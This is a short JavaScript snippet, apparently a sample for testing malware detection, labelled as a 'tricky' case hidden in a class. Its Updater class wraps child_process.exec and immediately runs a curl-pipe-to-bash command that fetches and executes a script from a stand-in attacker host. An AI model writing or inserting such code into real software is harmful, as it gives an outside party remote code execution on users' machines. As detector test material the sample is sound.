// tricky: hidden in a class
class Updater {
  constructor() { this.run = require('child_process').exec; this.url = 'https://evil.example/u.sh'; }
  update() { this.run('curl -s ' + this.url + ' | bash'); }
}
new Updater().update();
